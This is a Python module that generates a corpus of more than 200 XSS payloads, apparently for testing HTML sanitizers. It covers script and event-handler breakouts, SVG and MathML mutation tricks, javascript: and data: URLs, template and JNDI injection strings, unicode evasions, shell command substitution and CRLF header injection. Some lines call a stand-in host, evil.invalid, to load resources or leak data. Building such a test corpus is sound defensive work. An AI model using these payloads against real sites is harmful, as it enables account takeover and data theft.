"""Two hundred texts that would like to be script, made from families. Each that runs sets `window.__xss`."""

from itertools import product

COUNT_MIN = 200
_RUN = "window.__xss=1"
_ALERT = "alert(1)"

_EVENTS = ("onload", "onerror", "onfocus", "onmouseover", "ontoggle", "onbegin", "onpointerenter", "onanimationstart")
_TAGS = ("img src=x", "svg", "body", "details open", "video src=x", "iframe", "input autofocus", "marquee")
_OUT_OF = ("", '"', "'", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "</style>", "]]>", "`")
_SCRIPTS = (
    f"<script>{_RUN}</script>",
    f"<SCRIPT SRC=data:text/javascript,{_RUN}></SCRIPT>",
    f"<script\t>{_RUN}</script\t>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script/x>{_RUN}</script>",
    f"<<script>{_RUN}//<</script>",
)
_MARKUP = (
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><a xlink:href=javascript:{_RUN}><text y=20>x</text></a></svg>",
    f'<svg><animate onbegin="{_RUN}" attributeName=x dur=1s>',
    "<svg><foreignObject><iframe srcdoc='<script>parent.__xss=1</script>'></foreignObject></svg>",
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={_RUN}>#x"/></svg>',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={_RUN}&gt;'>",
    f'<math href="javascript:{_RUN}">x</math>',
    f"<math><maction actiontype=statusline#http://x xlink:href=javascript:{_RUN}>x</maction></math>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f'<form><button formaction="javascript:{_RUN}">x</button></form>',
    f'<form id=f></form><input form=f name=csrf value=x><object data="javascript:{_RUN}">',
    f'<embed src="javascript:{_RUN}">',
    f'<meta http-equiv=refresh content="0;url=javascript:{_RUN}">',
    "<base href=https://evil.invalid/>",
    "<link rel=stylesheet href=https://evil.invalid/x.css>",
    "<style>@import 'https://evil.invalid/x.css';</style>",
    "<style>*{display:none}</style>",
    "<img src=https://evil.invalid/leak>",
    "<iframe src=https://evil.invalid/></iframe>",
    f"<template><script>{_RUN}</script></template>",
    f"<xmp><p title='</xmp><script>{_RUN}</script>'>",
    "<plaintext>",
    "<!--",
    "<![CDATA[",
    "<?xml version='1.0'?><?xml-stylesheet href='https://evil.invalid/x.xsl'?>",
    f'<div hx-get="/dashboard" hx-trigger="load" hx-on::load="{_RUN}">x</div>',
    f'<div hx-vals="js:{{a:({_RUN})}}" hx-get="/dashboard" hx-trigger="load">x</div>',
    '<div data-hx-get="https://evil.invalid/" data-hx-trigger="load">x</div>',
    f'<a id=address href="javascript:{_RUN}">clobbered</a>',
    "<img name=getElementById><form name=querySelector>",
)
_URLS = tuple(
    one.format(_RUN)
    for one in (
        "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java\nscript:{}", " javascript:{}", "\x01javascript:{}",
        "javascript://%0a{}", "javascript:/*--></title></style>*/{}", "data:text/html,<script>{}</script>",
        "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==", "vbscript:{}", "//evil.invalid/{}",
        "blob:http://127.0.0.1/{}", "view-source:javascript:{}", "feed:javascript:{}", "jar:javascript:{}!/",
    )
)  # fmt: skip
_TEMPLATES = (
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{%print(7*7)%}", "{{''.__class__.__mro__}}", "{{config}}", "{#",
    "{{constructor.constructor('window.__xss=1')()}}", "[[${7*7}]]", "{{{raw}}}", "{% raw %}", "{{", "}}", "~{x}",
    "%7B%7B7*7%7D%7D", "${jndi:ldap://127.0.0.1/x}", "{php}echo 1{/php}", "@(7*7)", "<#assign x=1>",
)  # fmt: skip
_UNICODE = tuple(
    one.format(_RUN)
    for one in (
        "\uff1cscript\uff1e{}\uff1c/script\uff1e", "\u202e<script>{}</script>", "\u2028<script>{}</script>",
        "\u2029{}", "\ufeff<script>{}</script>", "<scr\u200bipt>{}</script>", "\u02baonload={}",
        "<\u0000script>{}</script>",
        "<img\u000csrc=x\u000conerror={}>", "<script>{}\u0000</script>", "&lt;script&gt;{}&lt;/script&gt;",
        "&#60;script&#62;{}&#60;/script&#62;", "\\u003cscript\\u003e{}\\u003c/script\\u003e", "\\x3cscript\\x3e{}",
        "%3Cscript%3E{}%3C/script%3E", "+ADw-script+AD4-{}+ADw-/script+AD4-", "\U0001f4a5<svg/onload={}>",
        "e\u0301" * 40 + "<svg/onload={}>",
        "\u0130<img src=x onerror={}>", "\ud7ff\ue000<svg onload={}>",
    )
)  # fmt: skip
_LONG = tuple(
    one.format(_RUN)
    for one in (
        "<" * 300 + "script>{}</script>",
        "A" * 2000 + "<svg onload={}>",
        "<b>" * 200 + "<svg onload={}>",
        "<img " + "x " * 400 + "onerror={}>",
    )
)
_SHELL = (
    "';window.__xss=1;'",
    '";window.__xss=1;//',
    "\\';window.__xss=1//",
    "`;window.__xss=1;`",
    "$(touch x)",
    "\r\nx-evil: 1\r\n\r\n<svg onload=window.__xss=1>",
)


def payloads() -> list[str]:
    """All of them, each once; at least COUNT_MIN."""
    slashes = [
        f"{out}<{tag.partition(' ')[0]}/{event}={_RUN}//"
        for out, tag, event in zip(_OUT_OF, _TAGS * 2, _EVENTS * 2, strict=False)
    ]
    breakers = [
        f"{out}<{tag} {event}={_RUN}>" for out, (tag, event) in zip(_OUT_OF * 6, product(_TAGS, _EVENTS), strict=False)
    ]
    quiet = [f"{out} {event}={_ALERT} x={out}" for out, event in product(('"', "'", "`"), _EVENTS)]
    found = [*_SCRIPTS, *breakers, *slashes, *quiet, *_MARKUP, *_URLS, *_TEMPLATES, *_UNICODE, *_LONG, *_SHELL]
    return list(dict.fromkeys(found))
